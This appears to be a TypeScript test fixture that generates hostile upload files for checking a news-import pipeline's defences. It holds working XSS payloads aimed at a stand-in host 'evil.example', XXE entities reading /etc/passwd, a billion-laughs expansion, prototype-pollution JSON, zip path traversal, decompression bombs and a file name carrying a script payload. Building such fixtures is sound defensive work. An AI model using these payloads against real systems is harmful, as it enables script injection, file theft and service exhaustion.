import { gzipSync } from 'node:zlib'
import { wordFile, wordParagraph, zipFile } from '../store/files/zip-file.ts'

export interface HostileFile {
  name: string
  mimeType: string
  buffer: Buffer
}

const SCRIPT = 'window.stolen = true; fetch("https://evil.example/")'
const MARKUP = [
  `<script>${SCRIPT}</script>`,
  `<script src="https://evil.example/a.js"></script>`,
  `<img src="https://evil.example/a.png" onerror="${SCRIPT.replaceAll('"', "'")}">`,
  `<img src=x onerror=stolen=true>`,
  `<svg onload="stolen=true"><script>stolen=true</script></svg>`,
  `<math><mtext><table><mglyph><style><img src onerror=stolen=true></style></mglyph></table></mtext></math>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<iframe srcdoc="<script>parent.stolen=true</script>"></iframe>`,
  `<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/a.css">`,
  `<style>*{position:fixed;inset:0;background:url(https://evil.example/a.png)}</style>`,
  `<style>@import url(https://evil.example/a.css)</style>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:red" onclick="stolen=true">Cover of 12 boats.</p>`,
  `<a href="javascript:stolen=true">12 boats</a>`,
  `<a href="data:text/html,<script>stolen=true</script>">12 boats</a>`,
  `<form action="https://evil.example/"><input name=a autofocus onfocus=stolen=true></form>`,
  `<base href="https://evil.example/"><img src="a.png">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<video src="https://evil.example/a.mp4" autoplay onloadstart=stolen=true></video>`,
  `<details open ontoggle=stolen=true>12 boats</details>`,
  `<marquee onstart=stolen=true>12 boats</marquee>`,
  `<template><script>stolen=true</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=stolen=true>"></noscript>`,
  `<!--><img src=x onerror=stolen=true>-->`,
  `<x contenteditable onbeforeinput=stolen=true>12 boats</x>`,
]
const WORDS = '<p>Some 12 boats left the harbour on Thursday, the harbour office said in a statement.</p>'
const rss = (content: string, before = '') =>
  `<?xml version="1.0"?>${before}<rss><channel><title>T</title><item><guid>g</guid><description><![CDATA[${content}]]></description></item></channel></rss>`
const entities = Array.from({ length: 30 }, (_, i) => `<!ENTITY a${i + 1} "&a${i};&a${i};&a${i};">`).join('')
const ld = (value: unknown) => `<script type="application/ld+json">${JSON.stringify(value)}</script>`
const big = (text: string, size: number) => text.repeat(Math.ceil(size / text.length))

const FILES: [name: string, content: string | Uint8Array][] = [
  ...MARKUP.map((markup, i): [string, string] => [
    `page-${i}.html`,
    `<html><body>${WORDS}${markup}${WORDS}</body></html>`,
  ]),
  ...MARKUP.slice(0, 8).map((markup, i): [string, string] => [`feed-${i}.rss`, rss(WORDS + markup)]),
  ...MARKUP.slice(0, 6).map((markup, i): [string, string] => [
    `text-${i}.txt`,
    `Some 12 boats left.\n\n${markup}`,
  ]),
  ...MARKUP.slice(8, 14).map((markup, i): [string, string] => [
    `mark-${i}.md`,
    `Some 12 boats left.\n\n${markup}`,
  ]),
  [
    'handler-in-ld.html',
    `<html><head>${ld({ '@type': 'NewsArticle', headline: MARKUP[3], url: 'javascript:stolen=true', publisher: MARKUP[4] })}</head><body>${WORDS}</body></html>`,
  ],
  [
    'link.json',
    JSON.stringify({ id: 'l', url: 'javascript:stolen=true', publisher: MARKUP[3], paragraphs: [MARKUP[3]] }),
  ],
  [
    'prototype.json',
    '{"id":"p","__proto__":{"stolen":true},"constructor":{"prototype":{"stolen":true}},"paragraphs":["12 boats."]}',
  ],
  [
    'prototype.ndjson',
    '{"id":"__proto__","paragraphs":["12 boats."]}\n{"id":"constructor","paragraphs":["13 boats."]}',
  ],
  [
    'ninjs.json',
    JSON.stringify({ uri: 'u', body_xhtml: WORDS + MARKUP.join(''), __proto__: { stolen: true } }),
  ],
  ['deep.json', `${'['.repeat(200_000)}${']'.repeat(200_000)}`],
  ['half.json', '{"paragraphs": ["12'],
  [
    'laughs.xml',
    rss('&a30;', `<!DOCTYPE rss [<!ENTITY a0 "steal">${entities}]>`)
      .replace('<![CDATA[', '')
      .replace(']]>', ''),
  ],
  [
    'external.xml',
    rss(
      '',
      '<!DOCTYPE rss SYSTEM "https://evil.example/a.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ).replace('<![CDATA[]]>', '&x;'),
  ],
  [
    'include.xml',
    '<rss xmlns:xi="http://www.w3.org/2001/XInclude"><channel><item><description><xi:include href="https://evil.example/"/></description></item></channel></rss>',
  ],
  [
    'style.xml',
    '<?xml-stylesheet href="https://evil.example/a.xsl"?><rss><channel><item><description>12 boats.</description></item></channel></rss>',
  ],
  ['deep.xml', `<rss>${'<a>'.repeat(300_000)}`],
  ['deep.html', big('<div>', 1_000_000)],
  ['tags.html', big('<p>a', 2_000_000)],
  ['brackets.html', big('<', 1_000_000)],
  ['attributes.html', `<p ${big('a="b" ', 1_000_000)}>12 boats.</p>`],
  ['stars.md', big('*', 1_000_000)],
  ['links.md', big('[a](b', 1_000_000)],
  ['digits.txt', big('7', 100_000)],
  ['commas.txt', big('1,', 100_000)],
  ['dashes.txt', big('ten-', 100_000)],
  ['one-line.txt', big('Some 12 boats left the harbour on Thursday. ', 400_000)],
  ['spaces.txt', `${big(' ', 500_000)}x`],
  ['surrogates.txt', `Some 12 boats left. ${JSON.parse('"\\ud800\\udfff\\ud83d"')} ‮evil‬`],
  ['nothing.txt', ''],
  ['zeros.txt', new Uint8Array(100_000)],
  ['exe.txt', Uint8Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256)],
  ['bomb.docx', wordFile('', '', { 'word/media/a.png': new Uint8Array(80_000_000) })],
  ['bomb.ndjson.gz', Uint8Array.from(gzipSync(new Uint8Array(450_000_000), { level: 1 }))],
  ['no.ndjson.gz', 'not packed'],
  [
    'macro.docx',
    wordFile(wordParagraph('Some 12 boats left.'), '', { 'word/vbaProject.bin': new Uint8Array(10) }),
  ],
  [
    'entity.docx',
    wordFile(wordParagraph('&x;'), '<!DOCTYPE a [<!ENTITY x SYSTEM "https://evil.example/">]>'),
  ],
  [
    'link.docx',
    wordFile(
      `<w:p><w:hyperlink w:anchor="javascript:stolen=true"><w:r><w:t>Some 12 boats left.</w:t></w:r></w:hyperlink></w:p>`,
    ),
  ],
  ['other.docx', zipFile({ '../../etc/passwd': 'x', 'word/document.xml': '<a/>' })],
  ['cut.docx', wordFile(wordParagraph('x')).subarray(0, 200)],
  ['what.exe', 'MZ'],
  ['<img src=x onerror=stolen=true>.txt', 'Some 12 boats left.'],
]

/** Files that are made to run, to fetch, to cover the page or to use it up. */
export const hostileFiles = (): HostileFile[] =>
  FILES.map(([name, content]) => ({ name, mimeType: '', buffer: Buffer.from(content) }))
